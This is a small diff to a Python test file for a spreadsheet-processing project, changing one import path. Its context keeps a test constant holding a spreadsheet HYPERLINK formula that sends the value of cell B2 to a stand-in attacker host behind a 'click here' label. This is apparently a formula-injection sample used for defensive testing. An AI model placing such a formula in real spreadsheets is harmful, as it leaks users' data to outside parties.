@@ -8,7 +8,7 @@ from danvan_xl.jobs.consolidate import save_summary
 from tests.cases.case import Case, Section, told
 from tests.cases.inbox import BAD, received
 from tests.cases.packing import STRINGS, part, parts_of, write_zip
-from tests.files import HEADER, save
+from tests.on_disk import HEADER, save
 from tests.sheets import grid, info
 
 _LINK = '=HYPERLINK("http://ke-gian.example/?x=" & B2; "Bấm vào đây")'
